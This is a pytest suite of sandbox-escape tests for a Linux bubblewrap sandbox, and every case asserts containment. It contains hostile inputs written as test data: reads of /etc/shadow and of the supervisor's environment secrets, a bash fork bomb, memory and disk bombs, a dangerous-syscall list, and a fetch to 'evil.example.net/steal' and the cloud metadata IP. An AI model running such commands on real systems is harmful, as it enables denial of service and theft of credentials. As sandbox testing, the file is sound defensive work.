"""Escape attempts against the real linux sandbox. Each case asserts containment."""

from __future__ import annotations

import asyncio
import contextlib
import os
import subprocess
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
from sbx_helpers import DISK_MB, sh

from onebox.errors import PolicyViolation
from onebox.sandbox.base import ExecRequest
from onebox.sandbox.linux import BwrapSandbox

pytestmark = pytest.mark.asyncio(loop_scope="session")


# -- host files -------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/etc/shadow", "/root", "/home", "/var/lib", "/etc/ssl/private", "/opt"]
)
async def test_host_paths_are_not_visible(linux: BwrapSandbox, path: str) -> None:
    own = {"user"} if path == "/home" else set()  # /home/user: the workspace (test_home_alias)
    code = f"import os\nprint(os.path.exists({path!r}) and bool(set(os.listdir({path!r})) - {own!r}))"
    r = await sh(
        linux, code if path != "/etc/shadow" else f"import os; print(os.path.exists({path!r}))"
    )
    assert r.ok, r.stderr
    assert r.stdout.strip() == "False"


async def test_other_sessions_and_onebox_home_are_invisible(linux: BwrapSandbox) -> None:
    await sh(linux, "open('secret.txt','w').write('other session data')", session="victim")
    victim = linux.workspace("victim")
    code = (
        "import os\n"
        f"print([p for p in ({str(victim)!r}, {str(linux.settings.home)!r}, '/workspaces') "
        "if os.path.exists(p)])"
    )
    r = await sh(linux, code, session="attacker")
    assert r.stdout.strip() == "[]"
    search = ("import os\n"  # every file the attacker can see, except the kernel's views
              "for top, dirs, files in os.walk('/'):\n"
              "    if top == '/': dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
              "    print(*(os.path.join(top, f) for f in files if f == 'secret.txt'))\n")
    r2 = await sh(linux, search, session="attacker")
    assert r2.exit_code == 0 and "secret" not in r2.stdout, r2.stderr


@pytest.mark.parametrize("target", ["/usr/bin/evil", "/etc/evil", "/evil", "/run/onebox/evil"])
async def test_cannot_write_outside_workspace(linux: BwrapSandbox, target: str) -> None:
    code = f"try:\n    open({target!r}, 'w').write('x'); print('wrote')\nexcept OSError as e:\n    print('denied', e.errno)"
    r = await sh(linux, code)
    assert "denied" in r.stdout
    assert not os.path.exists(target)


async def test_tmp_is_private_and_not_persistent(linux: BwrapSandbox) -> None:
    marker = f"obx-marker-{uuid.uuid4().hex}"
    r = await sh(linux, f"open('/tmp/{marker}','w').write('x'); print('ok')")
    assert r.stdout.strip() == "ok"
    assert not Path(f"/tmp/{marker}").exists()
    r2 = await sh(linux, f"import os; print(os.path.exists('/tmp/{marker}'))")
    assert r2.stdout.strip() == "False"


# -- planted links -----------------------------------------------------------------


async def test_symlink_planted_in_workspace_is_not_followed_by_host_writes(
    linux: BwrapSandbox, tmp_path: Path
) -> None:
    target = tmp_path / "host-file"
    target.write_text("original")
    await sh(linux, f"import os; os.symlink({str(target)!r}, 'evil'); os.symlink('/', 'rootdir')",
             session="links")  # fmt: skip
    for name in ("evil", "rootdir/tmp/x"):
        with pytest.raises(PolicyViolation):
            await linux.execute(ExecRequest(session_id="links", code="1", files={name: b"pwned"}))
    assert target.read_text() == "original"


async def test_symlink_to_host_secret_is_not_hashed_or_read(linux: BwrapSandbox) -> None:
    r = await sh(linux, "import os; os.symlink('/etc/shadow', 'shadow')", session="links2")
    change = next(c for c in r.files_written if c.path == "shadow")
    assert change.sha256 is None


async def test_hardlink_to_system_file_is_refused(linux: BwrapSandbox) -> None:
    code = "import os\ntry:\n    os.link('/usr/bin/env', 'env'); print('linked')\nexcept OSError as e:\n    print('denied', e.errno)"
    r = await sh(linux, code)
    assert "denied" in r.stdout


async def test_fifo_planted_in_workspace_does_not_hang_the_host(linux: BwrapSandbox) -> None:
    r = await sh(linux, "import os; os.mkfifo('pipe')", session="fifo")
    assert r.ok
    r2 = await asyncio.wait_for(sh(linux, "print(1)", session="fifo"), 20)
    assert r2.ok


# -- privileges ----------------------------------------------------------------------


async def test_no_privileges_and_setuid_is_useless(linux: BwrapSandbox) -> None:
    code = (
        "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd)' /proc/self/status\n"
        "id -u\n"
        "su -c 'id -u' root </dev/null 2>&1 || echo su-failed\n"
    )
    r = await sh(linux, code, language="bash")
    assert "NoNewPrivs:\t1" in r.stdout
    assert "CapEff:\t0000000000000000" in r.stdout
    assert "CapBnd:\t0000000000000000" in r.stdout
    assert "su-failed" in r.stdout
    assert "\n0\n" not in r.stdout


async def test_nested_user_namespace_is_denied(linux: BwrapSandbox) -> None:
    r = await sh(linux, "unshare -m -r true && echo escaped || echo denied", language="bash")
    assert "denied" in r.stdout and "escaped" not in r.stdout


async def test_devices_are_minimal(linux: BwrapSandbox) -> None:
    r = await sh(linux, "import os; print(sorted(os.listdir('/dev')))")
    for forbidden in ("sda", "vda", "kvm", "mem", "loop0", "loop-control"):
        assert f"'{forbidden}'" not in r.stdout


async def test_proc_sys_and_cgroups_are_read_only(linux: BwrapSandbox) -> None:
    # fs/file-max exists on every kernel (kernel/sysrq does not exist on all of them);
    # test_identity.py checks the errno of several such writes.
    assert Path("/proc/sys/fs/file-max").exists()
    code = (
        "(echo invalid > /proc/sys/fs/file-max) 2>&1 | grep -q 'Invalid argument' "
        "&& echo wrote-sysctl\n"
        "ls /sys/fs/cgroup 2>/dev/null && echo sees-cgroups\n"
        "echo done"
    )
    r = await sh(linux, code, language="bash")
    assert "wrote-sysctl" not in r.stdout and "sees-cgroups" not in r.stdout


# -- resources -----------------------------------------------------------------------------


async def test_fork_bomb_is_contained(linux: BwrapSandbox) -> None:
    r = await sh(linux, "bomb() { bomb | bomb & }; bomb; sleep 2", language="bash",
                 timeout_s=5, pids=64)  # fmt: skip
    assert not r.ok or r.timed_out or "fork" in r.stderr.lower()
    after = await sh(linux, "print('alive')")
    assert after.stdout.strip() == "alive"


async def test_memory_bomb_is_killed(linux: BwrapSandbox) -> None:
    code = "chunks = []\nwhile True: chunks.append(bytearray(50 * 1024 * 1024))"
    r = await sh(linux, code, memory_mb=96, timeout_s=15)
    assert not r.ok and not r.timed_out
    assert r.memory_peak_mb is not None and r.memory_peak_mb <= 96 + 1
    assert "out of memory" in (r.error or "") or "MemoryError" in r.stderr


async def test_disk_fill_stops_at_the_cap(linux: BwrapSandbox) -> None:
    code = "dd if=/dev/zero of=big bs=1M count=200 2>&1; echo rc=$?"
    r = await sh(linux, code, language="bash", session="diskfill")
    assert "No space left on device" in r.stdout
    assert "disk cap" in (r.error or "")
    ws = linux.workspace("diskfill")
    assert (ws / "big").stat().st_size <= DISK_MB * 1024 * 1024
    image = linux.disk.image_of(ws)
    assert image.stat().st_blocks * 512 <= (DISK_MB + 1) * 1024 * 1024
    await linux.cleanup("diskfill")


async def test_tmp_fill_is_capped(linux: BwrapSandbox) -> None:
    code = "for i in 1 2 3 4 5 6; do dd if=/dev/zero of=/tmp/big$i bs=1M count=10 2>&1; done"
    r = await sh(linux, code, language="bash", memory_mb=512)
    assert "No space left on device" in r.stdout


async def test_output_flood_is_bounded(linux: BwrapSandbox) -> None:
    code = "import sys\nfor _ in range(200): sys.stdout.write('y' * 262144)"
    r = await sh(linux, code, max_output_bytes=65536)
    assert r.truncated
    assert len(r.stdout) < 70_000


async def test_infinite_loop_is_killed_at_the_timeout(linux: BwrapSandbox) -> None:
    r = await sh(linux, "while True: pass", timeout_s=1)
    assert r.timed_out and not r.ok
    assert r.duration_ms < 8000


def _bwrap_children() -> dict[int, str]:
    """This process's bwrap children (pid -> state letter; Z is exited, not yet reaped)."""
    found = {}
    for pid in subprocess.run(["pgrep", "-P", str(os.getpid()), "-f", "bwrap"],
                              capture_output=True, text=True).stdout.split():
        with contextlib.suppress(OSError):  # gone meanwhile
            stat = Path(f"/proc/{pid}/stat").read_text()
            found[int(pid)] = stat.rsplit(")", 1)[1].split()[0]
    return found


def _host_pids_matching(marker: str) -> list[int]:
    out = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout
    return [int(p) for p in out.split()]


async def test_double_forked_daemon_dies_with_the_call(linux: BwrapSandbox) -> None:
    marker = f"obxdaemon{uuid.uuid4().hex[:8]}"
    code = (
        "import os, time, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        sys.argv[0] = {marker!r}\n"
        "        while True:\n"
        "            open('beat', 'a').write('.')\n"
        "            time.sleep(0.05)\n"
        "    os._exit(0)\n"
        "time.sleep(0.3)\n"
        "print('parent done')\n"
    )
    r = await sh(linux, code, session="daemon")
    assert r.stdout.strip() == "parent done"
    beat = linux.workspace("daemon") / "beat"
    size = beat.stat().st_size
    await asyncio.sleep(0.5)
    assert beat.stat().st_size == size, "a daemon kept running after the call ended"


async def test_setsid_background_process_dies_with_the_call(linux: BwrapSandbox) -> None:
    marker = f"9{uuid.uuid4().int % 10**8}"
    r = await sh(linux, f"setsid sleep {marker} & disown; nohup sleep {marker} & echo started",
                 language="bash")  # fmt: skip
    assert "started" in r.stdout
    await asyncio.sleep(0.2)
    assert _host_pids_matching(f"sleep {marker}") == []


async def test_timeout_leaves_no_process_behind(linux: BwrapSandbox) -> None:
    marker = f"8{uuid.uuid4().int % 10**8}"
    r = await sh(linux, f"(setsid sleep {marker} &) ; sleep {marker}", language="bash", timeout_s=1)
    assert r.timed_out
    await asyncio.sleep(0.2)
    assert _host_pids_matching(f"sleep {marker}") == []


async def test_cannot_signal_host_processes(linux: BwrapSandbox) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    try:
        code = (
            "import os, signal\n"
            f"try:\n    os.kill({victim.pid}, signal.SIGKILL); print('sent')\n"
            "except OSError as e:\n    print('denied', e.errno)\n"
            "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
        )
        r = await sh(linux, code)
        r2 = await sh(linux, "import os, signal\nos.kill(-1, signal.SIGKILL)")
        assert r2.exit_code is not None
        assert "denied" in r.stdout
        assert str(os.getpid()) not in r.stdout.split("\n")[1]
        time.sleep(0.1)
        assert victim.poll() is None, "a host process was killed from inside the sandbox"
    finally:
        victim.kill()


# -- environment and identity of the supervisor ------------------------------------------


async def test_supervisor_env_and_cmdline_are_not_exposed(
    linux: BwrapSandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-supervisor-secret")
    monkeypatch.setenv("DATABASE_URL", "postgresql://supervisor-secret")
    code = (
        "import os\n"
        "print(open('/proc/1/environ','rb').read())\n"
        "print(open('/proc/1/cmdline','rb').read())\n"
        "print(dict(os.environ))\n"
    )
    r = await sh(linux, code)
    assert r.ok, r.stderr
    assert "secret" not in r.stdout
    assert str(linux.settings.home) not in r.stdout
    assert "pytest" not in r.stdout


# -- syscalls ------------------------------------------------------------------------------

DENIED = {
    "ptrace": "libc.ptrace(0, 0, 0, 0)",
    "mount": "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    "unshare": "libc.unshare(0x10000000)",
    "setns": "libc.setns(0, 0)",
    "bpf": "libc.syscall(321, 0, 0, 0)",
    "keyctl": "libc.syscall(250, 0, 0, 0)",
    "perf_event_open": "libc.syscall(298, 0, 0, -1, -1, 0)",
    "kexec_load": "libc.syscall(246, 0, 0, 0, 0)",
    "init_module": "libc.syscall(175, 0, 0, 0)",
    "userfaultfd": "libc.syscall(323, 0)",
    "io_uring_setup": "libc.syscall(425, 1, 0)",
    "chroot": "libc.chroot(b'/tmp')",
    "clone_newnet": "libc.syscall(56, 0x40000000 | 17, 0, 0, 0, 0)",
}


@pytest.mark.parametrize("name", sorted(DENIED))
async def test_dangerous_syscalls_are_denied(linux: BwrapSandbox, name: str) -> None:
    code = (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"rc = {DENIED[name]}\n"
        "print(rc, ctypes.get_errno())\n"
    )
    r = await sh(linux, code)
    assert r.ok, r.stderr
    rc, err = r.stdout.split()
    assert rc == "-1" and int(err) in (1, 38), f"{name} was allowed: {r.stdout}"


async def test_raw_and_packet_sockets_are_denied(linux: BwrapSandbox) -> None:
    code = (
        "import socket\n"
        "for fam, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):\n"
        "    try:\n        socket.socket(fam, kind, 0); print('opened')\n"
        "    except OSError as e:\n        print('denied', e.errno)\n"
    )
    r = await sh(linux, code)
    assert r.stdout.count("denied") == 2


# -- network ---------------------------------------------------------------------------------

CONNECT = (
    "import socket\n"
    "s = socket.socket(); s.settimeout(3)\n"
    "try:\n    s.connect(({host!r}, {port})); print('connected')\n"
    "except OSError as e:\n    print('refused', e)\n"
)


async def test_host_loopback_services_are_unreachable(
    linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, hits = host_server
    before = len(hits)
    r = await sh(linux, CONNECT.format(host="127.0.0.1", port=port))
    assert "refused" in r.stdout
    assert len(hits) == before


async def test_public_ips_are_unreachable(linux: BwrapSandbox) -> None:
    r = await sh(linux, CONNECT.format(host="1.1.1.1", port=443))
    assert "refused" in r.stdout


async def test_dns_does_not_resolve(linux: BwrapSandbox) -> None:
    code = "import socket\ntry:\n    print(socket.getaddrinfo('example.com', 80))\nexcept OSError as e:\n    print('no dns', e)"
    r = await sh(linux, code)
    assert "no dns" in r.stdout


FETCH = (
    "import urllib.request\n"
    "try:\n    print(urllib.request.urlopen({url!r}, timeout=5).read())\n"
    "except Exception as e:\n    print('blocked', e)\n"
)


async def test_proxy_allows_a_listed_domain(
    linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, _ = host_server
    r = await sh(linux, FETCH.format(url=f"http://localhost:{port}/ok"),
                 domains=(f"localhost:{port}",))  # fmt: skip
    assert "hello from the host" in r.stdout, r.stderr
    assert r.blocked_network == ()


async def test_proxy_blocks_unlisted_domain_and_records_it(linux: BwrapSandbox) -> None:
    r = await sh(
        linux, FETCH.format(url="http://evil.example.net/steal"), domains=("api.example.com",)
    )
    assert "blocked" in r.stdout
    [attempt] = r.blocked_network
    assert attempt.host == "evil.example.net" and attempt.port == 80
    assert attempt.session_id == "sec" and attempt.at and attempt.reason
    assert "evil.example.net" in r.stderr


async def test_proxy_blocks_https_connect_to_unlisted_domain(linux: BwrapSandbox) -> None:
    r = await sh(linux, FETCH.format(url="https://evil.example.net/"), domains=("*.example.org",))
    assert "blocked" in r.stdout
    assert [(a.host, a.port) for a in r.blocked_network] == [("evil.example.net", 443)]


async def test_proxy_blocks_listed_domain_resolving_to_private_address(
    strict_linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, hits = host_server
    before = len(hits)
    r = await sh(strict_linux, FETCH.format(url=f"http://localhost:{port}/"),
                 domains=(f"localhost:{port}",))  # fmt: skip
    assert "blocked" in r.stdout
    assert "loopback" in r.blocked_network[0].reason
    assert len(hits) == before


@pytest.mark.parametrize("literal", ["169.254.169.254", "10.0.0.1"])
async def test_proxy_blocks_metadata_and_private_ip_literals(
    strict_linux: BwrapSandbox, literal: str
) -> None:
    r = await sh(strict_linux, FETCH.format(url=f"http://{literal}/latest/meta-data/"),
                 domains=(literal,))  # fmt: skip
    assert "blocked" in r.stdout
    assert r.blocked_network and "address" in r.blocked_network[0].reason


async def test_proxy_blocks_unlisted_ip_literal(linux: BwrapSandbox) -> None:
    r = await sh(linux, FETCH.format(url="http://93.184.215.14/"), domains=("example.com",))
    assert "blocked" in r.stdout
    assert r.blocked_network[0].host == "93.184.215.14"


async def test_proxy_blocks_other_ports(
    linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, hits = host_server
    before = len(hits)
    r = await sh(linux, FETCH.format(url=f"http://localhost:{port}/"), domains=("localhost",))
    assert "blocked" in r.stdout
    assert r.blocked_network[0].port == port
    assert len(hits) == before


async def test_no_proxy_socket_without_granted_domains(linux: BwrapSandbox) -> None:
    r = await sh(
        linux,
        "import os; print(os.path.exists('/run/onebox/proxy.sock'), os.environ.get('HTTP_PROXY'))",
    )
    assert r.stdout.strip() == "False None"


# -- without cgroups: rlimits take over, and the result says so ----------------------


async def test_rlimits_enforce_when_cgroups_are_missing(sec_home: Path) -> None:
    from onebox.config import SandboxSettings, load_settings

    sandbox = SandboxSettings(backend="linux", pool_size=0, disk_mb=DISK_MB, timeout_s=20)
    backend = BwrapSandbox(load_settings(home=sec_home / "no-cgroups", sandbox=sandbox))
    backend.cgroups = None  # as on a machine without a writable cgroup hierarchy
    try:
        code = "try:\n    b = bytearray(400 * 1024 * 1024); print('allocated')\nexcept MemoryError:\n    print('refused')"
        r = await sh(backend, code, memory_mb=128)
        assert r.stdout.strip() == "refused"
        assert r.enforcement["memory"] == "RLIMIT_AS" and r.enforcement["pids"] == "RLIMIT_NPROC"
        assert r.memory_peak_mb is None and r.cpu_time_ms is None
        loop = await sh(backend, "while True: pass", timeout_s=1)
        assert loop.timed_out
    finally:
        await backend.close()


async def test_proxy_tunnels_connect_to_a_listed_domain(
    linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, hits = host_server
    code = (
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=5)\n"
        f"s.sendall(b'CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n')\n"
        "print(s.recv(1024).split(b'\\r\\n')[0].decode())\n"
        "s.sendall(b'GET /tunnel HTTP/1.1\\r\\nHost: localhost\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while chunk := s.recv(65536): data += chunk\n"
        "print(data.split(b'\\r\\n\\r\\n', 1)[1].decode())\n"
    )
    r = await sh(linux, code, domains=(f"localhost:{port}",))
    assert r.stdout.splitlines() == [
        "HTTP/1.1 200 Connection established",
        "hello from the host",
    ], r.stderr
    assert "/tunnel" in hits


async def test_proxy_forwards_a_post_with_the_checked_host_only(
    linux: BwrapSandbox, host_server: tuple[int, list[str]]
) -> None:
    port, hits = host_server
    code = (
        "import urllib.request\n"
        f"req = urllib.request.Request('http://localhost:{port}/post', data=b'payload-123',\n"
        "                             headers={'Host': 'internal.example.net'})\n"
        "print(urllib.request.urlopen(req, timeout=5).read().decode())\n"
    )
    r = await sh(linux, code, domains=(f"localhost:{port}",))
    assert r.stdout.strip() == "payload-123", r.stderr
    assert f"POST /post host=localhost:{port}" in hits


async def test_sandboxes_die_with_a_killed_supervisor(
    tmp_path: Path, unmount_below: Callable[[Path], None]
) -> None:
    """kill -9 of onebox itself leaves no sandboxed process running."""
    marker = f"7{uuid.uuid4().int % 10**8}"
    script = (
        "import asyncio, sys\n"
        "from onebox.config import SandboxSettings, load_settings\n"
        "from onebox.sandbox.linux import BwrapSandbox\n"
        "from onebox.sandbox.base import ExecRequest\n"
        "async def main():\n"
        f"    s = load_settings(home={str(tmp_path)!r}, sandbox=SandboxSettings(pool_size=0, disk_mb=16))\n"
        "    b = BwrapSandbox(s)\n"
        "    print('ready', flush=True)\n"
        f"    await b.execute(ExecRequest(session_id='x', argv=('sleep', '{marker}')))\n"
        "asyncio.run(main())\n"
    )
    import sys

    proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    for _ in range(100):
        if _host_pids_matching(f"sleep {marker}"):
            break
        await asyncio.sleep(0.05)
    assert _host_pids_matching(f"sleep {marker}"), "the sandboxed command never started"
    proc.kill()
    proc.wait()
    for _ in range(40):
        if not _host_pids_matching(f"sleep {marker}"):
            break
        await asyncio.sleep(0.05)
    assert _host_pids_matching(f"sleep {marker}") == []
    # A killed supervisor leaves its mounts for the next process to adopt; clean them here.
    from onebox.config import load_settings

    settings = load_settings(home=tmp_path)
    unmount_below(settings.workspaces_dir)
    unmount_below(settings.sandbox_dir)


async def test_nothing_is_left_behind_after_close(tmp_path: Path) -> None:
    """Busy sessions, timeouts, a warm pool and pre-spawned sandboxes: close() cleans all."""
    from onebox.config import SandboxSettings, load_settings

    sandbox = SandboxSettings(backend="linux", pool_size=2, disk_mb=16, timeout_s=20)
    before = _bwrap_children()  # earlier tests' children are not this backend's
    backend = BwrapSandbox(load_settings(home=tmp_path, sandbox=sandbox))
    try:
        calls = [
            sh(backend, "while True: pass", session=f"busy{i % 4}", timeout_s=1)
            if i % 3 == 0
            else sh(backend, "import time; time.sleep(0.2)", session=f"busy{i % 4}", timeout_s=20)
            for i in range(12)
        ]
        results = await asyncio.gather(*calls)
        assert sum(r.timed_out for r in results) == 4
        bases = list(backend.cgroups.bases.values()) if backend.cgroups else []
    finally:
        await backend.close()
    left = {pid: state for pid, state in _bwrap_children().items() if pid not in before}
    assert [pid for pid, state in left.items() if state != "Z"] == []  # nothing still running
    deadline = time.monotonic() + 10  # an exited child is reaped by asyncio's watcher thread
    while left and time.monotonic() < deadline:
        time.sleep(0.05)
        left = {pid: s for pid, s in _bwrap_children().items() if pid in left}
    assert left == {}
    assert all(not base.exists() for base in bases)
    run_root = backend.run_root  # this backend's own run tmpfs: unmounted and removed
    assert not run_root.exists() or [p.name for p in run_root.iterdir()] in ([], ["static"])
    mounts = Path("/proc/self/mountinfo").read_text()
    assert str(tmp_path) not in mounts and str(backend.state_dir) not in mounts
